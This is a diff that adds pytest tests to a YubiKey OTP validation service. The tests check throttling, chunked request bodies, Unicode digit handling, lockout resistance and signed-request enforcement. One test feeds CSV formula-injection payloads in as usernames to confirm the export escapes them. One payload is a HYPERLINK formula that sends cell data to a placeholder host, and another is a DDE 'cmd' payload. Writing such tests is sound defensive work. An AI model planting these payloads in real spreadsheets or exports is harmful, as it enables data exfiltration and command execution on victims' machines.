@@ -1,10 +1,14 @@
 """HTTP surface: protocol 2.0 endpoint, sign-in API, admin JSON API, problem documents, scopes."""
 from __future__ import annotations
 
+import asyncio
 import base64
+import csv
+import io
 import json
 import secrets
 from pathlib import Path
+from urllib.parse import urlencode
 
 import pytest
 from aiohttp import FormData, web
@@ -70,7 +74,7 @@ def test_every_route_is_marked(service):
     assert seen.pop(("GET", "/wsapi/2.0/verify")) is None
     assert seen.pop(("POST", "/wsapi/2.0/verify")) is None
     assert seen.pop(("POST", "/api/v1/otp/verify")) == "signin"
-    assert set(seen.values()) == {"admin"} and len(seen) == 7
+    assert set(seen.values()) == {"admin"} and len(seen) == 8
 
 
 def test_routes_check_tokens_themselves_with_authenticate(service):
@@ -192,14 +196,16 @@ async def test_signin_verify(api):
 
 
 async def test_signin_throttled_is_429(aiohttp_client, engine, kek, clock):
-    settings = OtpSettings(throttle_user=ThrottleSettings(max_failures=2))
+    settings = OtpSettings(throttle_client=ThrottleSettings(max_failures=2))
     async with OtpService(engine, settings, kek, clock=clock) as service:
         api = await make_api(aiohttp_client, service)
         for _ in range(2):
             await api.post("/api/v1/otp/verify", json={"user": "pat", "otp": "nope"}, headers=SIGNIN)
-        body = await assert_problem(await api.post("/api/v1/otp/verify", json={"user": "pat", "otp": "nope"},
+        body = await assert_problem(await api.post("/api/v1/otp/verify", json={"user": "sam", "otp": "nope"},
                                                    headers=SIGNIN), 429)
         assert body["reason"] == "throttled"
+        events = await service.security_events()
+        assert [(e["kind"], e["actor"]) for e in events] == [("security.otp.client_throttled", "token:signin")]
 
 
 # ---- API clients ------------------------------------------------------------------------------
@@ -272,3 +278,117 @@ async def test_wsapi_never_fails_on_garbage(api, query):
 async def test_wsapi_post_too_large(api):
     resp = await api.post("/wsapi/2.0/verify", data=b"id=1&" + b"x" * 10_000)
     assert resp.status == 413
+
+
+async def test_wsapi_post_body_is_read_to_the_end(api):
+    cid, key = await new_client(api)
+    k = make_key(62)
+    await import_via_api(api, [k])
+    params, _ = signed_query(cid, key, k.otp(), "abcdefghijklmnopqrsu")
+    body = urlencode(params).encode()
+
+    async def trickle():  # the form arrives in several TCP segments
+        for i in range(0, len(body), 7):
+            yield body[i:i + 7]
+            await asyncio.sleep(0.01)
+
+    resp = await api.post("/wsapi/2.0/verify", data=trickle(),
+                          headers={"Content-Type": "application/x-www-form-urlencoded"})
+    fields = yubico.decode_response(await resp.text())
+    assert resp.status == 200 and fields["status"] == "OK", fields
+
+    async def too_big():
+        for _ in range(20):
+            yield b"x" * 1000
+    assert (await api.post("/wsapi/2.0/verify", data=too_big())).status == 413
+
+
+async def test_report_csv_cells_cannot_be_formulas(api):
+    keys = [make_key(70 + i) for i in range(5)]
+    await import_via_api(api, keys)
+    users = ["=HYPERLINK(\"http://x.example/\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "plain"]
+    for k, user in zip(keys, users):
+        resp = await api.post("/api/v1/otp/verify", json={"user": user, "otp": k.otp()}, headers=SIGNIN)
+        assert resp.status == 200, await resp.text()
+    text = await (await api.get("/api/v1/yubikeys?format=csv", headers=ADMIN)).text()
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert [r["user"] for r in rows] == ["'" + u for u in users[:4]] + ["plain"]
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())
+
+
+@pytest.mark.parametrize("serial", ["²", "١٢", "1²", "１２"])
+async def test_unicode_digits_are_not_numbers(api, serial):
+    await assert_problem(await api.post(f"/api/v1/yubikeys/{serial}/revoke", headers=ADMIN), 400)
+    await assert_problem(await api.delete(f"/api/v1/yubikeys/{serial}", headers=ADMIN), 400)
+    await assert_problem(await api.get("/api/v1/yubikeys", params={"serial": serial}, headers=ADMIN), 400)
+    await assert_problem(await api.get("/api/v1/yubikeys", params={"limit": serial}, headers=ADMIN), 400)
+    await assert_problem(await api.post(f"/api/v1/otp-clients/{serial}/disable", headers=ADMIN), 400)
+
+
+async def test_huge_client_ids_are_unknown_clients(api):
+    await assert_problem(await api.post("/api/v1/otp-clients/99999999999/disable", headers=ADMIN), 404)
+    resp = await api.get("/wsapi/2.0/verify", params={"id": "9999999999", "otp": "c" * 44,
+                                                      "nonce": "abcdefghijklmnop"})
+    assert yubico.decode_response(await resp.text())["status"] == "NO_SUCH_CLIENT"
+
+
+# ---- nobody can lock out someone else's key ---------------------------------------------------
+
+async def test_garbage_with_a_victims_public_id_does_not_lock_the_victim_out(api):
+    cid, key = await new_client(api)
+    victim = make_key(90)
+    await import_via_api(api, [victim])
+    resp = await api.post("/api/v1/otp/verify", json={"user": "victim", "otp": victim.otp()}, headers=SIGNIN)
+    assert resp.status == 200
+    for _ in range(15):
+        garbage = make_key(1, public_id=victim.public_id).otp()  # the public ID is in every OTP ever typed
+        nonce = secrets.token_hex(10)
+        await api.get("/wsapi/2.0/verify", params={"id": str(cid), "otp": garbage, "nonce": nonce})
+        params, _ = signed_query(cid, key, garbage, nonce + "x")
+        await api.get("/wsapi/2.0/verify", params=params)
+        await api.post("/api/v1/otp/verify", json={"user": "victim", "otp": garbage}, headers=SIGNIN)
+    params, _ = signed_query(cid, key, victim.otp(), secrets.token_hex(10))
+    fields = yubico.decode_response(await (await api.get("/wsapi/2.0/verify", params=params)).text())
+    assert fields["status"] == "OK", fields
+    resp = await api.post("/api/v1/otp/verify", json={"user": "victim", "otp": victim.otp()}, headers=SIGNIN)
+    assert resp.status == 200, await resp.text()
+
+
+async def test_wsapi_requires_signed_requests_unless_the_client_opts_out(api, caplog):
+    cid, key = await new_client(api)
+    k = make_key(91)
+    await import_via_api(api, [k])
+    unsigned = {"id": str(cid), "otp": k.otp(), "nonce": "abcdefghijklmnopq"}
+    fields = yubico.decode_response(await (await api.get("/wsapi/2.0/verify", params=unsigned)).text())
+    assert fields["status"] == "MISSING_PARAMETER" and yubico.signature_matches(fields, key)
+    resp = await api.post("/api/v1/otp-clients", json={"name": "legacy pam", "allow_unsigned": True}, headers=ADMIN)
+    assert resp.status == 201 and (await resp.json())["allow_unsigned"] is True
+    legacy = (await resp.json())["id"]
+    unsigned["id"] = str(legacy)
+    with caplog.at_level("INFO", logger="otp.service"):
+        fields = yubico.decode_response(await (await api.get("/wsapi/2.0/verify", params=unsigned)).text())
+    assert fields["status"] == "OK"
+    assert [r.client_id for r in caplog.records if r.getMessage() == "otp.verify.unsigned"] == [legacy]
+    # an administrator can require signatures of that client again, or allow them for the first one
+    resp = await api.patch(f"/api/v1/otp-clients/{legacy}", json={"allow_unsigned": False}, headers=ADMIN)
+    assert resp.status == 200 and (await resp.json())["allow_unsigned"] is False
+    unsigned["otp"] = k.otp()
+    fields = yubico.decode_response(await (await api.get("/wsapi/2.0/verify", params=unsigned)).text())
+    assert fields["status"] == "MISSING_PARAMETER"
+    await assert_problem(await api.patch(f"/api/v1/otp-clients/{cid}", json={"allow_unsigned": "yes"},
+                                         headers=ADMIN), 400)
+    await assert_problem(await api.patch("/api/v1/otp-clients/4242", json={"allow_unsigned": True},
+                                         headers=ADMIN), 404)
+    await assert_problem(await api.patch(f"/api/v1/otp-clients/{cid}", json={"allow_unsigned": True},
+                                         headers=SIGNIN), 403)
+    await assert_problem(await api.post("/api/v1/otp-clients", json={"allow_unsigned": 1}, headers=ADMIN), 400)
+
+
+async def test_wsapi_throttles_by_the_client_address_function(aiohttp_client, service):
+    app = web.Application()
+    add_routes(app, service, authenticate=authenticate, client_address=lambda request: "192.0.2.200")
+    api = await aiohttp_client(app)
+    assert await service.store.throttle_state("source:192.0.2.200") is None
+    await api.post("/api/v1/otp/verify", json={"user": "u", "otp": "nope"}, headers=SIGNIN)
+    assert (await service.store.throttle_state("source:192.0.2.200"))[0] == 1
+    assert (await service.store.throttle_state("signin:token:signin"))[0] == 1
